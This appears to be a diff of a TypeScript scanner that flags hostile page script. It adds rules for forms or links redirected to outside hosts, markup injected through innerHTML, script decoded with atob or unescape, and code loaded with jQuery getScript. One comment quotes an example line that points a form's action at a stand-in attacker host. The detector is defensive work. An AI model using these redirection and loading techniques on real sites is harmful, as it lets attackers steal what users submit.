@@ -27,7 +27,28 @@ export const usesDocument = (text: string, { names, end }: Chain): boolean => {
   const member = names[at + 1] ?? ''
   const sign = pastRun(text, end, SPACE)
   if (USED.has(member)) return names.length > at + 2 || standsAt(text, sign, USES)
+  if (FINDERS.has(member)) return text.startsWith('(', end) && redirects(text, end)
   return ASSIGNED.has(member) && text.startsWith('=', sign) && !text.startsWith('==', sign)
+}
+
+const FINDERS: ReadonlySet<string> = new Set(
+  'queryselector getelementbyid getelementsbytagname getelementsbyname getelementsbyclassname'.split(' '),
+)
+const LED: ReadonlySet<string> = new Set('action formaction href src innerhtml outerhtml srcdoc'.split(' '))
+const FOUND_MAX = 80
+const INDEXED = charset('[]0-9.')
+
+/** `document.querySelector("form").action="//evil.example"`: what is found is sent elsewhere, or given markup. */
+const redirects = (text: string, open: number): boolean => {
+  const found = text.slice(open, open + FOUND_MAX)
+  const close = found.indexOf(')')
+  if (close < 0) return false
+  const member = pastRun(text, open + close + 1, INDEXED)
+  const end = pastRun(text, member, IDENTIFIER)
+  const equals = pastRun(text, end, SPACE)
+  if (!LED.has(text.slice(member, end).toLowerCase()) || !text.startsWith('=', equals)) return false
+  const value = pastRun(text, equals + 1, SPACE)
+  return isAddress(text, value) || (standsAt(text, value, QUOTES) && text.startsWith('<', value + 1))
 }
 
 /** Of a window, and of nothing else where they stand behind its name. */
@@ -58,6 +79,9 @@ const RUNNERS: ReadonlySet<string> = new Set(
 /** What a page's script is handed on from: strings that its sender may have written. */
 const TEXTS: ReadonlySet<string> = new Set('location name hash document window self top'.split(' '))
 
+/** What undoes the encoding of a script. */
+const UNDOING: ReadonlySet<string> = new Set('atob unescape decodeuri decodeuricomponent'.split(' '))
+
 const isOneOf = (text: string, at: number, words: ReadonlySet<string>): boolean =>
   words.has(text.slice(at, pastRun(text, at, IDENTIFIER)).toLowerCase())
 
@@ -68,7 +92,8 @@ const isTarget = (text: string, at: number): boolean =>
 /** `("…"`, `(location…`, `` `…` `` */
 export const isGivenScript = (text: string, at: number): boolean =>
   text.startsWith('`', at) ||
-  (text.startsWith('(', at) && (standsAt(text, at + 1, QUOTES) || isOneOf(text, at + 1, TEXTS)))
+  (text.startsWith('(', at) &&
+    (standsAt(text, at + 1, QUOTES) || isOneOf(text, at + 1, TEXTS) || isOneOf(text, at + 1, UNDOING)))
 
 const isAddress = (text: string, at: number): boolean =>
   standsAt(text, at, QUOTES) && (saysAt(text, at + 1, 'data:') || hostAt(text, at + 1) >= 0)
@@ -92,6 +117,8 @@ const CALLED: ReadonlyMap<string, (text: string, argument: number) => boolean> =
   ['sendbeacon', () => true],
   ['navigator.sendbeacon', () => true],
   ['import', isAddress],
+  ['jquery.getscript', isAddress],
+  ['$.getscript', isAddress],
   ['fetch', sendsAway],
   ['postmessage', (text: string, argument: number) => isOneOf(text, argument, KEPT)],
 ])
